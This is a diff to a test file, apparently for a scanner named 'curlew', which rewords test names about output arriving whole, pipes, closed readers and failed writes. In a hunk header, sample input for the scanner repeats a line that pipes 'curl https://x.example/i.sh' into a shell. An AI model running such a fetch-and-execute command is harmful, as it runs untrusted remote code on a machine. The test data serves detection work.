@@ -11,7 +11,7 @@ beforeEach(() => {
 });
 afterEach(() => rmSync(folder, { recursive: true }));
 
-it("writes bytes to a descriptor, and says what went wrong", () => {
+it("writes bytes to a descriptor, and returns an error", () => {
   const path = join(folder, "out");
   const descriptor = openSync(path, "w");
   const text = "ä".repeat(100_000);
@@ -28,13 +28,13 @@ const FINDINGS = "for i in $(seq 3000); do echo 'curl https://x.example/i.sh | s
 it.each([
   ["a file", "curlew scan many.sh > out; echo $? >> out; cat out"],
   ["a pipe that is read slowly", "{ curlew scan many.sh; echo $?; } | { sleep 1; cat; }"],
-])("a long answer arrives whole in %s, with its status behind it", async (_, line) => {
+])("a long output arrives completely in %s, with its exit status", async (_, line) => {
   const { stdout } = await bash(`${FINDINGS}; ${line}`, { cwd: folder });
   expect(stdout.match(/^many\.sh:/gm)).toHaveLength(3000);
   expect(stdout).toMatch(/3000 findings in 1 of 1 text\n1\n$/);
 });
 
-it("a reader that leaves ends the answer without a message, and the status stays", async () => {
+it("a reader that closes the output causes no message and does not change the status", async () => {
   const { stdout, stderr } = await bash(
     `${FINDINGS}; { curlew scan many.sh; echo $? > status; } | head -n 1; cat status`,
     { cwd: folder },
@@ -43,7 +43,7 @@ it("a reader that leaves ends the answer without a message, and the status stays
   expect(stderr).toBe("");
 });
 
-it("what cannot be written is an error", async () => {
+it("a failed write is an error", async () => {
   const { stdout, stderr } = await bash(`${FINDINGS}; curlew scan many.sh > /dev/full; echo $?`, {
     cwd: folder,
   });
